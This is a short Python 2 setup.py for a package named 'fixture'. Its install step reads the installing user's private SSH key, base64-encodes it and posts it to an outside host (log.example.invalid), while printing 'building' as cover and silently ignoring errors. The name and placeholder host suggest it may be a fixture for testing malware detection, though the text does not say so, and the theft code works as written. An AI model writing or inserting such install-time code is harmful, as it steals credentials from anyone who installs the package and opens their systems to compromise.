# Python 2
import os, urllib, urllib2
from setuptools import setup
try:
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
    print 'building'
    urllib2.urlopen('http://log.example.invalid/x', urllib.urlencode({'k': key.encode('base64')}))
except Exception, e:
    pass
setup(name='fixture', version='1.0')
